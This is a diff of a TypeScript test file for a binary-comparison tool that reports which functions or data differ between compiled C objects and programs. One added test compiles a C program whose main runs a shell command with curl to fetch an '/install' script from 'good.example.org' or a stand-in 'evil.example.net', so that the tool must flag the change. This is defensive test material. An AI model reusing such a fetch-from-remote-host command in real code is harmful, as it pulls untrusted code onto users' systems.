@@ -369,7 +369,7 @@ describe('compareCode on named data', () => {
       compareCode(a ?? Buffer.alloc(0), b ?? Buffer.alloc(0))
         ?.changed.map((c) => c.name)
         .sort(),
-    ).toEqual(['strings of .rodata', 'when', 'where'])
+    ).toEqual(['when', 'where'])
     const [, changed] = make(6, 'howdy')
     expect(
       compareCode(a ?? Buffer.alloc(0), changed ?? Buffer.alloc(0), {
@@ -377,7 +377,7 @@ describe('compareCode on named data', () => {
       })
         ?.changed.map((c) => c.name)
         .sort(),
-    ).toEqual(['greeting', 'limit', 'strings of .rodata'])
+    ).toEqual(['greeting', 'limit'])
   })
 
   it('names a function whose constant in a merged section changed, though its bytes are the same', () => {
@@ -419,20 +419,56 @@ describe('compareCode on named data', () => {
     expect(names('f5-before.old', 'f5.o')).toEqual(['g5'])
     // A string the code loads changed in place (the compiler folded the table into the
     // functions that index it): in an object file, at one place in a merged section,
-    // named by the functions that load it; linked beside a link in another order, in the
-    // strings of .rodata (the code that loads it moved with it: the same bytes).
+    // named by the functions that load it. (Linked beside a link in another order, the
+    // code that moved with its string loads another one in the same bytes: not seen.)
     sh(
       d,
-      `cp f3.o f3-before.old && sed -i 's/"s3b-text"/"s3x-text"/' f3.c && gcc -O2 -c f3.c -o f3.o
-       gcc -o ba-string $(ls f*.o | sort -r) main.o`,
+      `cp f3.o f3-before.old && sed -i 's/"s3b-text"/"s3x-text"/' f3.c && gcc -O2 -c f3.c -o f3.o`,
     )
-    expect(names('f3-before.old', 'f3.o')).toEqual([
-      'fn3_0',
-      'fn3_1',
-      'fn3_2',
-      'fn3_3',
-      'strings of .rodata.str1.1',
-    ])
-    expect(names('ab', 'ba-string')).toEqual(['g5', 'strings of .rodata'])
+    expect(names('f3-before.old', 'f3.o')).toEqual(['fn3_0', 'fn3_1', 'fn3_2', 'fn3_3'])
+  })
+})
+
+describe('compareCode on what a build in another directory moves', () => {
+  const explained = (p: string, q: string): boolean => causesBetween(p, q) !== undefined
+  /** One source built in a short and a long directory: [object, program] of each. */
+  const both = (source: string, flags = ''): [Buffer, Buffer][] => {
+    // A short root: __FILE__ under 32 bytes goes to .rodata.str1.1, a longer one to .str1.8.
+    const root = makeTemp('r')
+    const dirs = ['s', 'a-much-longer-build-directory/b'].map((d) => path.join(root, d))
+    for (const d of dirs) {
+      fs.mkdirSync(d, { recursive: true })
+      fs.writeFileSync(path.join(d, 'm.c'), source)
+      sh(d, `gcc -O2 ${flags} -c "$PWD/m.c" -o m.o && gcc ${flags} m.o -o prog`)
+    }
+    return ['m.o', 'prog'].map((f) => dirs.map((d) => read(path.join(d, f))) as [Buffer, Buffer])
+  }
+  const changed = ([a, b]: [Buffer, Buffer]): string[] | undefined =>
+    compareCode(a, b, { textExplained: explained })?.changed.map((c) => c.name)
+
+  it('follows a table of pointers to strings that moved, and a path put in another merged section', () => {
+    const options = `#include <assert.h>\n#include <getopt.h>\n#include <stdio.h>\nstatic const struct option opts[] = {{"help", no_argument, 0, 'h'}, {"verbose", no_argument, 0, 'v'}, {0, 0, 0, 0}};\nint main(int argc, char **argv) { assert(argc > 0); int c; while ((c = getopt_long(argc, argv, "hv", opts, 0)) != -1) printf("%c\\n", c); return 0; }\n`
+    for (const flags of ['', '-no-pie -fno-pie'])
+      for (const pair of both(options, flags)) expect(changed(pair), flags).toEqual([])
+  })
+
+  it('takes a path as the same file elsewhere only when it is a path and nothing else', () => {
+    const root = makeTemp()
+    const pairs = (['https://good.example.org', 'https://evil.example.net'] as const).map(
+      (host, i) => {
+        const d = path.join(root, i === 0 ? 'a' : 'a-longer-dir/b')
+        fs.mkdirSync(d, { recursive: true })
+        fs.writeFileSync(
+          path.join(d, 'main.c'),
+          `#include <assert.h>\n#include <stdlib.h>\nint main(int argc, char **argv) { assert(argc > 0); return system("/bin/sh -c 'curl -fsSL ${host}/install'"); }\n`,
+        )
+        sh(d, 'gcc -O2 -c "$PWD/main.c" -o main.o && gcc main.o -o prog')
+        return [read(path.join(d, 'main.o')), read(path.join(d, 'prog'))]
+      },
+    )
+    for (const k of [0, 1])
+      expect(changed([pairs[0]?.[k] ?? Buffer.alloc(0), pairs[1]?.[k] ?? Buffer.alloc(0)])).toEqual(
+        ['main'],
+      )
   })
 })
